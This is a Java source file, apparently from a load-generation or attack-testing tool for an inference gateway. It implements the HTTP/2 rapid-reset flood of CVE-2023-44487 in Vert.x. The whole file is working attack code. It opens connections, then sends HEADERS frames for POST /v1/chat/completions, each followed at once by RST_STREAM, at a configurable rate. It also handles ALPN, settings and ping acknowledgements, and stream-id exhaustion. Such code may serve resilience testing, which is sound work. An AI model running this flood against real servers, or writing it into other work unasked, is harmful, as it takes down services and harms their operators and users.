package io.infergate.loadgen.attack;

import io.vertx.core.Context;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.net.NetClient;
import io.vertx.core.net.NetSocket;
import io.vertx.core.net.SocketAddress;

import java.util.HashMap;
import java.util.Map;
import java.util.Optional;
import java.util.Set;

/**
 * The HTTP/2 rapid-reset flood of CVE-2023-44487: on each of a few connections (TLS with ALPN {@code h2},
 * or cleartext with prior knowledge), a HEADERS frame opening a {@code POST /v1/chat/completions} is followed
 * at once by an RST_STREAM cancelling it, on stream after stream, at {@code streamsPerSecond} in all.
 * Cancelled streams never count against the server's concurrent-stream limit, so only a limit on resets
 * (or on streams per connection) stops it. Writes are held back while a connection's send buffer is full:
 * the flood goes no faster than the server reads. The server's SETTINGS and PINGs are acknowledged, as a
 * well-behaved client would.
 *
 * <pre>{@code
 * RapidReset flood = attacker.rapidReset(10, 20_000);
 * ...
 * System.out.println(flood.stop().summary());
 * }</pre>
 */
public final class RapidReset extends AttackJob {

    /** The last client stream id before a connection is spent (client streams are odd, up to 2^31 - 1). */
    private static final int LAST_STREAM_ID = Integer.MAX_VALUE - 2;

    private final boolean tls;
    private final byte[] headerBlock;
    private final double streamsPerTickPerConnection;
    private final Map<NetSocket, Integer> nextStream = new HashMap<>();
    private double owed;

    RapidReset(Context context, NetClient client, SocketAddress target, boolean tls, String authority, int connections,
               int streamsPerSecond) {
        super("rapid-reset", context, client, target, connections);
        if (streamsPerSecond < 1) {
            throw new IllegalArgumentException("rapid-reset: " + streamsPerSecond + " streams per second (expected: >= 1)");
        }
        this.tls = tls;
        this.headerBlock = Http2Frames.requestHead(tls, authority, Attacker.CHAT_PATH);
        this.streamsPerTickPerConnection = streamsPerSecond * TICK_MILLIS / 1000.0 / connections;
    }

    @Override
    Optional<String> onOpen(NetSocket socket) {
        if (tls && !"h2".equals(socket.applicationLayerProtocol())) {
            return Optional.of("the server did not accept h2 through ALPN (got: " + socket.applicationLayerProtocol() + ")");
        }
        Http2Frames.Reader reader = new Http2Frames.Reader();
        socket.handler(data -> reader.feed(data, frame -> received(socket, frame)));
        socket.write(Http2Frames.clientStart());
        nextStream.put(socket, 1);
        return Optional.empty();
    }

    @Override
    void onTick(Set<NetSocket> connections) {
        owed += streamsPerTickPerConnection;
        int streams = (int) owed;
        owed -= streams;
        if (streams == 0) {
            return;
        }
        for (NetSocket socket : connections) {
            Integer first = nextStream.get(socket);
            if (first == null || socket.writeQueueFull()) {
                continue;
            }
            if (first > LAST_STREAM_ID - 2 * streams) {
                socket.close();
                continue;
            }
            Buffer out = Buffer.buffer(streams * 64);
            for (int i = 0; i < streams; i++) {
                Http2Frames.appendHeadersThenReset(out, first + 2 * i, headerBlock);
            }
            socket.write(out);
            nextStream.put(socket, first + 2 * streams);
            streamsReset += streams;
        }
    }

    @Override
    void onClosed(NetSocket socket) {
        nextStream.remove(socket);
    }

    private void received(NetSocket socket, Http2Frames.Frame frame) {
        switch (frame.type()) {
            case Http2Frames.SETTINGS -> {
                if ((frame.flags() & Http2Frames.FLAG_ACK) == 0) {
                    socket.write(Http2Frames.settingsAck());
                }
            }
            case Http2Frames.PING -> {
                if ((frame.flags() & Http2Frames.FLAG_ACK) == 0) {
                    socket.write(Http2Frames.pingAck(frame.payload()));
                }
            }
            case Http2Frames.RST_STREAM -> serverResets++;
            case Http2Frames.GOAWAY -> goaways++;
            default -> { }
        }
    }
}
